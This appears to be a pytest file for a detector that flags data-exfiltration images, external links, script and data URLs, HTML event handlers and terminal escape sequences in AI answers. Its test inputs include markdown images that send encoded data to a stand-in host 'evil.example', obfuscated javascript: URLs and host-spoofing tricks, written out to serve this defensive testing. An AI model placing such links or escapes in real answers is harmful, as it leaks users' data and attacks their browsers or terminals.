"""Links and images in answers: however they are written, whoever's host they name."""

import json
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from appliance.inspect.looking import Looked
from appliance.inspect.output.commonmark import MOST, MOST_BRACKETS, seen_in
from appliance.inspect.output.hosts import Allowed, carries_data, hosts_of, named_in, without_allowed
from appliance.inspect.output.patterns import Patterns, exact
from appliance.model.names import Source

DATASETS = Path(__file__).parents[5] / "shared" / "data" / "datasets"
DATA = "https://evil.example/p?d=Zm9vYmFyYmF6cXV4"
PLAIN = "https://evil.example/p.png"


def found(text):
    looked = Looked(text, Source.ANSWER, lambda _: ())
    return {(one.entity, one.score, text[one.start : one.end]) for one in Patterns().find(looked, 0.0)}


def entities(text):
    return {entity for entity, _, _ in found(text)}


@pytest.mark.parametrize(
    ("text", "entity", "told"),
    [
        (f"![a]({DATA})", "EXFILTRATION_IMAGE", DATA),
        (f'![a]( <{DATA}> "t")', "EXFILTRATION_IMAGE", DATA),
        (f"![a](\n {DATA} )", "EXFILTRATION_IMAGE", DATA),
        (f"![{'long ' * 80}]({DATA})", "EXFILTRATION_IMAGE", DATA),
        (f"[![a]({PLAIN})](/there)", "EXTERNAL_IMAGE", PLAIN),
        (f"![x][r]\n\n[r]: {DATA}", "EXFILTRATION_IMAGE", DATA),
        (f"![x][r]\n\n[r]:\n  <{DATA}> 'title'", "EXFILTRATION_IMAGE", DATA),
        (f"![x]\n\nmore\n\n[x]: {PLAIN}", "EXTERNAL_IMAGE", PLAIN),
        (f"[a]({PLAIN})", "EXTERNAL_LINK", PLAIN),
        (f"<{PLAIN}>", "EXTERNAL_LINK", PLAIN),
        (f"see {DATA} there", "EXTERNAL_LINK", DATA),
        (f"<img src={PLAIN}>", "EXTERNAL_IMAGE", PLAIN),
        (f'<img\nalt=">" SRC = "{DATA}">', "EXFILTRATION_IMAGE", DATA),
        (f"<video poster='{PLAIN}'>", "EXTERNAL_IMAGE", PLAIN),
        (f'<a href="{PLAIN}">', "EXTERNAL_LINK", PLAIN),
        (f"<form action={PLAIN}>", "EXTERNAL_LINK", PLAIN),
        (f'<meta http-equiv=refresh content="0;url={DATA}">', "EXFILTRATION_IMAGE", DATA),
        (f"<META CONTENT='3.5 ; URL = {PLAIN}' http-equiv=\"Refresh\">", "EXTERNAL_IMAGE", PLAIN),
        (f"<meta http-equiv=refresh content='0, \"{PLAIN}\"'>", "EXTERNAL_IMAGE", PLAIN),
        ("<meta http-equiv=refresh content='0;url=javascript:go()'>", "SCRIPT_URL", "javascript:go()"),
        (f"<div style=\"background:url('{PLAIN}')\">", "EXTERNAL_IMAGE", PLAIN),
        ("![a](//evil.example/p)", "EXTERNAL_IMAGE", "//evil.example/p"),
        ("![a](https:\\/\\/evil.example/p)", "EXTERNAL_IMAGE", "https:\\/\\/evil.example/p"),
        ("![a](/\\evil.example/p)", "EXTERNAL_IMAGE", "/\\evil.example/p"),
        ("[a](javascript:alert(1))", "SCRIPT_URL", "javascript:alert(1"),
        ("[a](jAva\nscript:x)", "SCRIPT_URL", "jAva\nscript:x"),
        ('<a href="java\tscript:x">', "SCRIPT_URL", "java\tscript:x"),
        ("[a](&#x6a;avascript:x)", "SCRIPT_URL", "&#x6a;avascript:x"),
        ("[a](java&#115;cript:x)", "SCRIPT_URL", "[a](java&#115;cript:x)"),
        ("<javascript:x>", "SCRIPT_URL", "javascript:x"),
        ("[a](data:text/html;base64,QQ==)", "DATA_URL", "data:text/html;base64,QQ=="),
        ("<iframe src='data:image/svg+xml,x'>", "DATA_URL", "data:image/svg+xml,x"),
    ],
)
def test_every_way_to_write_it(text, entity, told):
    assert (entity, told) in {(one, word) for one, _, word in found(text)}
    assert entity in entities(f"So:\n\n{text}\n\nDone.")


@pytest.mark.parametrize(
    "text",
    [
        "[a](/here) ![b](img/c.png) [c](#part) [d](mailto:a@b.example) [e](ftp-notes.md)",
        "JavaScript: the good parts; data: see below; a[1](x) and b[0]: 3",
        "a < b and c > d, if x<y: print(x)",
        "see https://example.com/page and www.example.com",
        "`code` x = list[int]() ; f(a)[0](b)",
    ],
)
def test_what_leads_nowhere_is_nothing(text):
    assert found(text) == set()


def test_code_is_not_run_but_html_beside_it_is():
    text = "`<script>` runs:\n\n```html\n<script>a()</script>\n```\n"
    assert {score for _, score, _ in found(text)} == {0.5}
    assert ("HTML_SCRIPT", 0.9, "<b onclick=") in found("so <b onclick=go()>press</b>")
    assert ("HTML_SCRIPT", 0.9, "<script>") in found("<script>\ngo()\n</script>")
    assert entities("<svg/onload=go()> <iframe srcdoc='x'>") == {"HTML_SCRIPT"}


@pytest.mark.parametrize(
    ("text", "score"),
    [
        ("\x1b[31m", 0.5),
        ("\x1b[2J", 0.9),
        ("\x1b]52;c;QUJD\x07", 0.9),
        ("\x1b]8;;https://x.example\x1b\\", 0.9),
        ("\x1bP1$r\x1b\\", 0.9),
        ("\x9b2J", 0.9),
        ("\x1b", 0.9),
    ],
)
def test_terminal_escapes(text, score):
    assert ("TERMINAL_ESCAPE", score) in {(entity, sure) for entity, sure, _ in found(f"a {text} b")}


@pytest.mark.parametrize(
    ("url", "hosts"),
    [
        ("https://Evil.Example:8443/x", {"evil.example"}),
        ("https://good.example@evil.example/", {"evil.example"}),
        ("https://good.example\\@evil.example/", {"evil.example", "good.example"}),
        ("//evil.example", {"evil.example"}),
        ("https:/evil.example", {"evil.example"}),
        ("https:\\\\evil.example", {"evil.example"}),
        ("ht\ntps://evil.example", {"evil.example"}),
        ("&#104;ttps://evil.example", {"evil.example"}),
        ("https://evil%2eexample/", {"evil.example"}),
        ("https://evil\uff0eexample/", {"evil.example"}),
        ("https://ev\u200bil.example/", {"evil.example"}),
        ("https://[::1]:80/", {"::1"}),
        ("https:///", {""}),
        ("https://good.example/get?url=https://evil.example/x", {"good.example", "evil.example"}),
        ("https://good.example/get?url=https%253A%252F%252Fevil.example", {"good.example", "evil.example"}),
        ("/relative?x=1", set()),
        ("mailto:a@evil.example", set()),
    ],
)
def test_hosts(url, hosts):
    assert hosts_of(url) == hosts


def test_allowed_hosts():
    allowed = Allowed(["good.example", ".wiki.example", "cdn-*.example.net", "WWW.Shop.example"])
    for host in (
        "good.example",
        "www.good.example",
        "wiki.example",
        "en.wiki.example",
        "cdn-7.example.net",
        "shop.example",
    ):
        assert allowed.takes(host)
    for host in ("", "evil.good.example", "evilwiki.example", "cdn-7.example.net.evil.example", "xcdn-7.example.net"):
        assert not allowed.takes(host)
    text = f"![a](https://good.example/p?d=Zm9vYmFyYmF6cXV4) ![b]({DATA}) ![c](https://good.example/?u={PLAIN})"
    left = without_allowed(text, exact(text), [allowed])
    assert [text[one.start : one.end] for one in left] == [DATA, f"https://good.example/?u={PLAIN}"]
    assert named_in("On https://Good.example/x and docs.other.example, not 1.2 or e.g. this") == {
        "good.example",
        "docs.other.example",
    }


@pytest.mark.parametrize(
    ("url", "carries"),
    [
        ("https://x.example/a.png?w=800&q=80&fm=jpg", False),
        ("https://x.example/badge/build-passing-green.svg?style=flat", False),
        ("https://x.example/photo-1506744038136-46273834b3fb.jpg", False),
        ("https://x.example/a?d=Zm9vYmFyYmF6cXV4", True),
        ("https://x.example/a?d=the%20secret", True),
        ("https://x.example/a?mail=bob@x.example", True),
        ("https://x.example/" + "a1b2c3d4" * 6, True),
        ("https://" + "a1b2c3d4" * 4 + ".x.example/", True),
        ("https://x.example/a#" + "a1b2c3d4" * 6, False),
    ],
)
def test_what_can_take_something_along(url, carries):
    assert carries_data(url) is carries


PIECES = [
    "![a](",
    "[a](",
    ")",
    "https://x.example/?q=abcdefghijklmnopqrst",
    "[r]: ",
    "<img src=",
    ">",
    "\n",
    "`",
    "&#",
    "\\",
    "<",
    "a",
]


@settings(max_examples=150, deadline=None)
@given(st.lists(st.one_of(st.sampled_from(PIECES), st.text(max_size=3)), max_size=30).map("".join))
def test_any_text(text):
    for entity, score, word in found(text):
        assert entity
        assert 0 < score <= 1
        assert word


def test_the_reader_is_bounded():
    assert list(seen_in("[a](b)" * (MOST_BRACKETS + 1))) == []
    assert list(seen_in("[a](b)" + " " * MOST)) == []
    assert len(list(seen_in("[a](b) " * (MOST_BRACKETS - 1)))) <= 500
    assert len(exact("![" * 50_000 + "](https://x.example)" * 5_000)) == 5_000


@pytest.mark.shared
def test_ordinary_texts_are_left_alone():
    if not DATASETS.is_dir():
        pytest.skip("../shared/data/datasets is not beside this checkout")
    lines = (DATASETS / "injection.jsonl").read_text(encoding="utf-8").splitlines()[::20]
    texts = [row["text"] for row in map(json.loads, lines) if not row["label"]]
    strong = [text for text in texts if any(score >= 0.6 for _, score, _ in found(text))]
    assert len(texts) > 400
    assert len(strong) <= len(texts) // 100
